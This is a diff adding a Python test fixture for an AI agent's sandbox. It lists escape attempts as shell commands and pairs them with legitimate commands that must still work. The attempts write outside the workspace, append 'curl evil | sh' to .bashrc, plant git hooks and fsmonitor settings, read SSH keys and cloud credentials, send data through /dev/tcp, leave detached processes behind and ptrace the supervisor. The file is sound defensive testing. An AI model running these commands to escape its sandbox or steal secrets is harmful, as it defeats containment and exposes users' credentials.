@@ -1,0 +1,135 @@
+"""What commands try from inside the sandbox, and what a person needs to keep working.
+
+Every attempt is judged by the same oracle (outside/, home/ and .git/ unchanged; no planted
+secret in the output or in any workspace file; nothing reached the listeners; no process of
+the attempt left; no marker in the real /tmp), plus `GOT`: an attempt that ends with
+`&& touch GOT` and finds GOT in the workspace afterwards got what it wanted.
+
+`needs` names the mechanism an attempt's defence rests on where Landlock alone cannot hold it;
+without that mechanism the attempt is a documented gap (README, Security model).
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+
+@dataclass(frozen=True)
+class Attempt:
+    id: str
+    command: str
+    needs: str = ""  # "namespaces": only a mount/network namespace blocks it
+
+
+ATTEMPTS = (
+    # -- writing outside the workspace -------------------------------------------------------
+    Attempt("write-absolute", "echo x > {outside}/new && touch GOT"),
+    Attempt("write-dotdot", "echo x > ../outside/new && touch GOT"),
+    Attempt("append-existing", "echo x >> {outside}/file && touch GOT"),
+    Attempt("write-shipped-symlink", "echo x > escape/new && touch GOT"),
+    Attempt("write-own-symlink", "ln -s {outside} out2 && echo x > out2/new && touch GOT"),
+    Attempt("hard-link-outside", "ln {outside}/file hl && echo x >> hl && touch GOT"),
+    Attempt("proc-self-cwd", "echo x > /proc/self/cwd/../outside/new && touch GOT"),
+    Attempt("proc-self-root", "echo x > /proc/self/root{outside}/new && touch GOT"),
+    Attempt("bashrc", "echo 'curl evil | sh' >> $HOME/.bashrc && touch GOT"),
+    Attempt("rename-out", "echo x > mine && mv mine {outside}/mine && touch GOT"),
+    Attempt("rename-in-and-edit", "mv {outside}/file ./stolen && touch GOT"),
+    Attempt("remove-outside", "rm -rf {outside}/dir && touch GOT"),
+    Attempt("mkfifo-outside", "mkfifo {outside}/fifo && touch GOT"),
+    Attempt("truncate-outside", "truncate -s 0 {outside}/file && touch GOT"),
+    Attempt("python-open", "python3 -c \"open('{outside}/py', 'w').write('x')\" && touch GOT"),
+    Attempt("chmod-outside", "chmod 600 {outside}/file && touch GOT", needs="namespaces"),
+    Attempt("utime-outside", "touch -d 2001-01-01 {outside}/file && touch GOT", needs="namespaces"),
+    Attempt("etc", "echo x > /etc/mca-escape-{token} && touch GOT"),
+    Attempt("real-tmp", "echo x > /tmp/mca-escape-{token}; test -e /tmp/mca-escape-{token}"),
+    Attempt("real-dev-shm", "echo x > /dev/shm/mca-escape-{token}; true"),
+    Attempt(
+        "swap-dir-for-link", "mkdir d && rmdir d && ln -s {outside} d && echo x > d/n && touch GOT"
+    ),
+    # -- protected paths and mca's own state -------------------------------------------------
+    Attempt("git-config", "printf '[core]\\n\\tfsmonitor = touch {outside}/pwn\\n' >> .git/config"),
+    Attempt(
+        "git-hook", "echo 'touch {outside}/pwn' > .git/hooks/post-checkout; chmod +x .git/hooks/*"
+    ),
+    Attempt("git-hook-replace", "rm -f .git/hooks/pre-commit && echo evil > .git/hooks/pre-commit"),
+    Attempt("git-remove", "rm -rf .git; mkdir .git; echo evil > .git/config"),
+    Attempt("git-rename", "mv .git .git-old && mkdir .git && echo x > .git/config"),
+    Attempt("git-symlink-config", "ln -sf {outside}/file .git/config"),
+    Attempt(
+        "skills-create", "mkdir -p .agents/skills/evil && echo x > .agents/skills/evil/SKILL.md"
+    ),
+    Attempt("mca-dir-create", "mkdir .mca && echo x > .mca/config.toml"),
+    Attempt("mca-home-write", "echo 'api_key = \"x\"' > {mca_home}/config.toml && touch GOT"),
+    Attempt("git-fsmonitor-flag", "git -c core.fsmonitor='touch {outside}/pwn' status; true"),
+    Attempt("git-alias-bang", "git -c alias.x='!touch {outside}/pwn' x; true"),
+    # -- reading secrets -----------------------------------------------------------------------
+    Attempt("read-ssh", "cat {home}/.ssh/id_rsa && touch GOT"),
+    Attempt("read-aws", "cat ~/.aws/credentials && touch GOT"),
+    Attempt("read-netrc", "cat ~/.netrc && touch GOT"),
+    Attempt("read-mca-config", "cat {mca_home}/config.toml && touch GOT"),
+    Attempt("copy-ssh", "cp -r ~/.ssh ./stolen && touch GOT"),
+    Attempt(
+        "tar-home",
+        "tar cf home.tar -C {home} . 2>/dev/null; tar xf home.tar -C . 2>/dev/null; true",
+    ),
+    Attempt("symlink-to-secret", "ln -s {home}/.ssh/id_rsa k && cat k && touch GOT"),
+    Attempt("hard-link-secret", "ln {home}/.ssh/id_rsa hk && cat hk && touch GOT"),
+    Attempt("grep-home", "grep -r PLANTED {home} 2>/dev/null; true"),
+    Attempt("find-secret", "find / -name id_rsa -exec cat {{}} + 2>/dev/null; true"),
+    # -- the network ---------------------------------------------------------------------------
+    Attempt("tcp-bash", "echo hi > /dev/tcp/127.0.0.1/{port} && touch GOT"),
+    Attempt(
+        "tcp-python",
+        "python3 -c \"import socket; s=socket.create_connection(('127.0.0.1', {port}));"
+        " s.sendall(b'leak')\" && touch GOT",
+    ),
+    Attempt(
+        "udp-python",
+        'python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)'
+        ".sendto(b'leak', ('127.0.0.1', {udp}))\" && touch GOT",
+        needs="namespaces",
+    ),
+    Attempt(
+        "tcp-bind",
+        "python3 -c \"import socket; socket.socket().bind(('0.0.0.0', 0)); "
+        "s=socket.socket(); s.bind(('127.0.0.1', 0)); s.listen()\" && touch GOT",
+    ),
+    # -- processes -----------------------------------------------------------------------------
+    Attempt("background", "(sleep 30; echo {token}) & true"),
+    Attempt("disowned", "nohup bash -c 'sleep 30 # {token}' >/dev/null 2>&1 & disown; true"),
+    Attempt("setsid-daemon", "setsid bash -c 'sleep 30 # {token}' </dev/null >/dev/null 2>&1 &"),
+    Attempt(
+        "double-fork",
+        'python3 -c "import os,time\nif os.fork()==0:\n os.setsid()\n if os.fork()==0:\n'
+        "  os.execvp('bash',['bash','-c','sleep 30 # {token}'])\" ; true",
+    ),
+    Attempt(
+        "ptrace-mca",
+        'python3 -c "import ctypes,sys; l=ctypes.CDLL(None);'
+        ' sys.exit(0 if l.ptrace(16, {pid}, 0, 0)==0 else 1)" && touch GOT',
+    ),
+    Attempt("mca-environ", "cat /proc/{pid}/environ > env.txt && test -s env.txt && touch GOT"),
+    Attempt("mca-mem", "head -c 16 /proc/{pid}/mem > mem.bin && touch GOT"),
+    Attempt("signal-mca", "kill -0 {pid} && touch GOT"),
+    Attempt(
+        "setuid-copy",
+        "cp /bin/sh ./sh && chmod u+s ./sh && ./sh -c 'echo x > {outside}/suid' && touch GOT",
+    ),
+    Attempt("mount-tmpfs", "mount -t tmpfs none {outside} && touch GOT"),
+    Attempt("unshare-and-mount", "unshare -rm sh -c 'mount -t tmpfs none {outside}' && touch GOT"),
+)
+
+# What must keep working inside the sandbox: (id, command, text the output must hold).
+LEGIT = (
+    ("write-read-remove", "echo hi > a.txt && cat a.txt && rm a.txt", "hi"),
+    ("nested-dirs", "mkdir -p x/y && echo ok > x/y/f && mv x/y/f x/g && cat x/g", "ok"),
+    ("make-build", "make -s build && cat build/app.py", "return a + b"),
+    ("python-tests", "python3 -m unittest -q test_app 2>&1", "OK"),
+    ("tmp", "echo t > $TMPDIR/t && cat $TMPDIR/t && mktemp | grep -c .", "t"),
+    ("python-tempfile", "python3 -c 'import tempfile; print(tempfile.mkdtemp())'", "tmp"),
+    ("git-read", "git status --short && git log --oneline 2>&1 | head -1; echo git-ok", "git-ok"),
+    ("home-readable", "test -r ~/.bashrc && echo home-ok", "home-ok"),
+    ("dev-null", "echo x > /dev/null && head -c 4 /dev/urandom | wc -c", "4"),
+    ("pipes-and-jobs", "seq 1 1000 | sort -n | tail -1; (echo sub) & wait", "1000"),
+    ("symlink-inside", "ln -s src/app.py link.py && cat link.py", "return"),
+)
